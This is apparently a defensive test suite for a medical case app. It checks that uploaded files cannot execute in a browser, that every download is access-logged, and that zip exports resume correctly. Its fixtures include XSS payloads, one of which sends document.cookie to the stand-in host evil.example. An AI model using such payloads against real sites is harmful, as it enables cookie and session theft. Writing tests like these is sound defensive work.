import { createHash } from 'node:crypto';
import { readFile } from 'node:fs/promises';
import { inject } from 'vitest';
import { UPLOAD_TYPES } from '#config/upload-types';
import { Checksums } from '../../src/attachments/checksums.js';
import { startApp, type TestApp } from '../support/app.js';
import { caseStory, type CaseStory } from '../support/case-story.js';
import { makeSamples } from '../support/samples/index.js';
import type { Visitor } from '../support/visitor.js';
import { walkLocalHeaders } from '../support/walk-local-headers.js';

/** What a file can do to whoever opens it, told by somebody who wants to do harm. */
let telecase: TestApp;
let story: CaseStory;
let nurse: Visitor;
let samples: Awaited<ReturnType<typeof makeSamples>>;
let reference: string;

beforeAll(async () => {
  samples = await makeSamples(inject('samples'));
  telecase = await startApp();
  story = await caseStory(telecase);
  nurse = await story.signedIn(story.people.nurse);
  reference = await story.accepted();
}, 120_000);
afterAll(() => telecase.stop());

const attach = (name: string, bytes: Uint8Array) => nurse.postFiles(`/cases/${reference}/attachments`, {}, [{ name, bytes }]);
const fileOf = async (name: string): Promise<string> => {
  const [{ id }] = await telecase.db.query(`select id from attachments where name = $1 order by created_at desc limit 1`, [name]);
  return `/cases/${reference}/attachments/${id}/file`;
};
const rows = (action: string): Promise<number> => telecase.db.query(`select from access_log where action = $1 and case_reference = $2`, [action, reference]).then((found) => found.length);

/** Types with which a browser runs what it gets: as a page, a script, a style sheet, a picture with scripts. */
const RUNS = /html|xml|svg|script|ecma|css|json|wasm|flash|shockwave|manifest/;
const cannotRun = (headers: Headers) => {
  expect(headers.get('content-security-policy')).toBe("default-src 'none'; frame-ancestors 'none'; sandbox");
  expect(headers.get('x-content-type-options')).toBe('nosniff');
  expect(headers.get('cross-origin-resource-policy')).toBe('same-origin');
  expect(headers.get('cache-control')).toBe('private, no-store, no-transform');
  expect(headers.get('content-type')!.replace('openxmlformats', '')).not.toMatch(RUNS);
};

describe('no file runs', () => {
  it('of any accepted type, whatever is asked of it', async () => {
    for (const sample of Object.values(samples)) {
      expect((await attach(sample.name, await readFile(sample.path))).status, sample.name).toBe(303);
      for (const query of ['', '?inline=1', '?inline=true', '?inline=1&inline=1']) {
        const { headers, bytes } = await nurse.bytes((await fileOf(sample.name)) + query, { range: 'bytes=0-99', 'sec-fetch-dest': 'document', accept: 'text/html' });
        cannotRun(headers);
        expect(bytes.length).toBeGreaterThan(0);
        const isPlayed = query === '?inline=1' && /^(video|audio)\//.test(headers.get('content-type')!) && !headers.get('content-type')!.includes('msvideo');
        expect(headers.get('content-disposition')?.split(';')[0], sample.name + query).toBe(isPlayed ? undefined : 'attachment');
      }
    }
  }, 60_000);

  it.each([
    ['page.html', '<!doctype html><script>alert(1)</script>'],
    ['page.txt', '<!doctype html><script>top.location="https://evil.example/"+document.cookie</script>'],
    ['drawing.svg.txt', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'],
  ])('that is refused: %s', async (name, content) => {
    expect((await attach(name, Buffer.from(content))).status).toBe(422);
  });

  it.each([
    ['table.csv', 'alert(1)//,x\n1,2\n'],
    ['late.txt', `${'A long and harmless beginning. '.repeat(200)}<script>alert(1)</script>`],
    ['été.html.txt', 'alert(document.cookie)'],
  ])('that is accepted as a text: %s', async (name, content) => {
    expect((await attach(name, Buffer.from(content))).status).toBe(303);
    const { headers } = await nurse.bytes(`${await fileOf(name)}?inline=1`);
    cannotRun(headers);
    expect(headers.get('content-disposition')).toMatch(/^attachment; /);
    expect(headers.get('content-type')).toMatch(/^text\/(plain|csv); charset=utf-8$/);
  });

  it.each([
    ['html', 'text/html', 'document'], ['svg', 'image/svg+xml', 'image'], ['xhtml', 'application/xhtml+xml', 'document'], ['xml', 'text/xml', 'document'],
    ['js', 'text/javascript', 'document'], ['css', 'text/css', 'document'], ['swf', 'application/x-shockwave-flash', 'video'], ['pdf', 'text/html', 'document'],
    ['mp4', 'text/html', 'video'], ['jpg', 'image/svg+xml', 'image'], ['pdf', 'application/pdf', 'document'],
  ])('not even where the row says %s, %s', async (extension, mediaType, group) => {
    const name = `row.${extension}`;
    await attach('row.txt', Buffer.from('alert(1)'));
    const file = await fileOf('row.txt');
    await telecase.db.query(`update attachments set name = $1, extension = $2, media_type = $3, type_group = $4 where id = $5`, [name, extension, mediaType, group, file.split('/')[4]]);

    const { status, headers } = await nurse.bytes(`${file}?inline=1`);

    expect(status).toBe(200);
    cannotRun(headers);
    if (extension !== 'mp4') expect(headers.get('content-disposition')).toBe(`attachment; filename="${name}"; filename*=UTF-8''${name}`);
    expect(headers.get('content-type')).toBe(mediaType === 'application/pdf' ? mediaType : 'application/octet-stream');
    expect((await nurse.get(`/cases/${reference}/attachments`)).status).toBe(200);
  });

  it('is accepted of a type that could', () => {
    const types = UPLOAD_TYPES.flatMap(({ mediaTypes }) => mediaTypes).map((type) => type.replace('openxmlformats', ''));
    expect(types.filter((type) => RUNS.test(type))).toEqual([]);
  });

  it('nor does the zip or the PDF of a case, small or large', async () => {
    await telecase.settled();
    expect((await nurse.get(`/cases/${reference}.pdf`)).text, 'a large one is begun').toMatch(/^<!doctype html>/);
    await telecase.settled();
    for (const path of [`/cases/${reference}/attachments.zip`, `/cases/${reference}.pdf/file`, `/cases/${await story.accepted()}.pdf`]) {
      const { status, headers } = await nurse.bytes(path);
      expect(status).toBe(200);
      cannotRun(headers);
      expect(headers.get('content-disposition')).toMatch(/^attachment; filename="BUN-[^"]+"; filename\*=UTF-8''BUN-/);
    }
  }, 60_000);
});

describe('every byte is on the access log', () => {
  it('a whole file each time, of parts the first and then one in ten minutes, also when nothing comes', async () => {
    await attach('parts.txt', Buffer.from('0123456789'));
    const file = await fileOf('parts.txt');
    const added = async (work: () => Promise<unknown>) => {
      const before = await rows('attachment.saved');
      await work();
      return (await rows('attachment.saved')) - before;
    };

    expect(await added(() => nurse.bytes(file, { range: 'bytes=0-3' }))).toBe(1);
    expect(await added(() => nurse.bytes(file, { range: 'bytes=4-' }))).toBe(0);
    expect(await added(() => nurse.bytes(file))).toBe(1);
    expect(await added(() => nurse.bytes(file))).toBe(1);
    expect(await added(async () => (await story.signedIn(story.people.colleague)).bytes(file, { range: 'bytes=9-' }))).toBe(1);
    expect(await added(async () => (await story.signedIn(story.people.medco)).send(file, { method: 'HEAD' }))).toBe(1);
    expect(await added(async () => (await story.signedIn(story.people.coordinator)).bytes(file, { range: 'bytes=100-' }))).toBe(1);
  });

  it('a name that one writes anew does not hide a look', async () => {
    await attach('before.txt', Buffer.from('0123456789'));
    const file = await fileOf('before.txt');
    await nurse.bytes(file, { range: 'bytes=0-3' });
    await nurse.post(file.replace('/file', ''), { name: 'after.txt', description: '' });
    const before = await rows('attachment.saved');

    await nurse.bytes(file, { range: 'bytes=4-' });

    expect(await rows('attachment.saved')).toBe(before + 1);
  });

  it('and a person who may not see the case gets none of them, in whatever part', async () => {
    await attach('secret.txt', Buffer.from('0123456789'));
    const file = await fileOf('secret.txt');
    const stranger = await story.signedIn(story.people.stranger);
    const nobody = telecase.visitor();

    for (const headers of [{}, { range: 'bytes=0-1' }, { range: 'bytes=0-1', 'if-range': '"x"' }, { 'if-none-match': '*' }] as Record<string, string>[]) {
      expect((await stranger.bytes(file, headers)).status).toBe(404);
      expect((await nobody.bytes(file, headers)).status).toBe(303);
    }
  });
});

describe('Download All', () => {
  const zip = () => `/cases/${reference}/attachments.zip`;

  it('goes on after a broken link, to the byte, and is one look on the access log', async () => {
    for (const sample of [samples.jpeg12MP, samples.mp4]) await attach(sample.name, await readFile(sample.path));
    const whole = await nurse.bytes(zip());
    const etag = whole.headers.get('etag')!;
    const before = await rows('export.zip');

    const parts: Buffer[] = [];
    for (let at = 0; at < whole.bytes.length; at += Math.ceil(whole.bytes.length / 7)) {
      const end = Math.min(at + Math.ceil(whole.bytes.length / 7), whole.bytes.length) - 1;
      const { status, headers, bytes } = await nurse.bytes(zip(), { range: `bytes=${at}-${end}`, 'if-range': etag });
      expect([status, headers.get('content-range'), headers.get('etag')]).toEqual([206, `bytes ${at}-${end}/${whole.bytes.length}`, etag]);
      parts.push(bytes);
    }

    expect(Buffer.concat(parts).equals(whole.bytes)).toBe(true);
    expect(whole.headers.get('accept-ranges')).toBe('bytes');
    expect(await rows('export.zip')).toBe(before);
  }, 60_000);

  it('comes anew when it is no longer the same', async () => {
    const { headers } = await nurse.send(zip(), { method: 'HEAD' });
    await attach('one more.txt', Buffer.from('more'));

    const { status, headers: later } = await nurse.bytes(zip(), { range: 'bytes=100-', 'if-range': headers.get('etag')! });

    expect(status).toBe(200);
    expect(later.get('etag')).not.toBe(headers.get('etag'));
  });

  it('opens in a reader that believes each header, every sum right', async () => {
    const { bytes } = await nurse.bytes(zip());
    const [manifest, ...files] = walkLocalHeaders(bytes);
    const sums = files.map(({ name, content }) => `${createHash('sha256').update(content).digest('hex')}  ${name}\n`);
    expect(manifest!.content.toString()).toBe(sums.join(''));
  });

  it('is the same where sums were missing, and leaves them behind', async () => {
    const before = await nurse.bytes(zip());
    const sums = () => telecase.db.query(`select id, crc32 from attachments order by id`);
    const known = await sums();
    await telecase.db.query(`update attachments set crc32 = null`);

    expect((await nurse.bytes(zip())).bytes.equals(before.bytes)).toBe(true);
    expect(await sums()).toEqual(known);

    await telecase.db.query(`update attachments set crc32 = null`);
    const [{ id }] = await telecase.db.query(`insert into attachments select gen_random_uuid(), case_id, message_id, uploaded_by, 'gone.txt', '', null, null, type_group, extension, media_type, bytes, sha256, '00/00/00000000-0000-0000-0000-000000000000', preview_state, null, null, created_at from attachments limit 1 returning id`);
    await telecase.app.get(Checksums, { strict: false }).reckonMissing();
    await telecase.db.query(`delete from attachments where id = $1`, [id]);
    expect(await sums()).toEqual(known);
  });
});

it('keeps previews out of caches that others share', async () => {
  await attach('shared.png', await readFile(samples.png.path));
  await telecase.settled();
  for (const size of [240, 960, 1920]) {
    const { status, headers } = await nurse.bytes((await fileOf('shared.png')).replace('file', `preview/${size}`));
    expect([status, headers.get('content-type')]).toEqual([200, 'image/webp']);
    expect(headers.get('cache-control')).toMatch(/^private, /);
    expect(headers.get('x-content-type-options')).toBe('nosniff');
  }
});
